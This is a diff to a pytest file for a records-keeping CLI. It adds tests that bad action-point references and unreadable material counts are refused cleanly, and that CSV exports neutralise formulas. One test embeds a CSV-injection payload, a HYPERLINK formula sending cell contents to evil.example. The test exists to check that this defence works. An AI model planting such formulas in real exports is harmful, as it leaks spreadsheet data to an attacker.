@@ -64,7 +64,8 @@ def test_action_done_closes_the_point_and_the_file_stays_valid(
 
 
 @pytest.mark.parametrize("ref", ["2021-03-04-network", "2021-03-04-network#0", "nope#1",
-                                 "2021-03-04-network#9"])
+                                 "2021-03-04-network#9", "2021-03-04-network#²",
+                                 "2021-03-04-network#" + "9" * 5000])
 def test_a_wrong_action_point_is_a_usage_error(
         runner: CliRunner, valid_repo: Path, ref: str) -> None:
     _meeting(runner, valid_repo)
@@ -224,3 +225,32 @@ def test_a_records_note_may_link_an_organisations_page(runner: CliRunner,
                  "annoncée sur facebook.com/PSEANetworkMali et facebook.com/events/123456789")
     assert added.exit_code == 0, added.output  # type: ignore[attr-defined]
     assert load_dataset(valid_repo, use_cache=False)[1] == []
+
+
+def test_a_formula_in_a_meeting_file_reaches_the_csv_views_as_inert_text(
+        runner: CliRunner, valid_repo: Path) -> None:
+    _meeting(runner, valid_repo)
+    meeting = valid_repo / "data/meetings/2021-03-04-network.yaml"
+    formula = '=HYPERLINK("http://evil.example/"&A1,"clic")'
+    meeting.write_text(meeting.read_text(encoding="utf-8").replace(
+        "text: Partager le compte rendu", f"text: '{formula}'"), encoding="utf-8")
+    assert formula in (point.text for point in load_dataset(
+        valid_repo, use_cache=False)[0].records.meetings[0].value.action_points)
+    result = _run(runner, valid_repo, "action", "list", "--format", "csv")
+    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
+    texts = [row["text"] for row in csv.DictReader(io.StringIO(
+        result.stdout))]  # type: ignore[attr-defined]
+    assert "'" + formula in texts
+    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
+
+
+@pytest.mark.parametrize("count", ["²", "9" * 5000])
+def test_a_material_count_python_cannot_read_is_refused_not_an_internal_error(
+        runner: CliRunner, valid_repo: Path, count: str) -> None:
+    result = _run(runner, valid_repo, "activity", "add", "training", "--date", "2021-03-04",
+                  "--region", "ML05", "--audience", "community_members", "--organiser",
+                  "alpha", "--women", "3", "--material", f"posters={count}")
+    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]
+    assert "internal error" not in result.output  # type: ignore[attr-defined]
+    assert "nothing was written" in result.output  # type: ignore[attr-defined]
+    assert not list((valid_repo / "data").rglob("2021-03-04-*"))
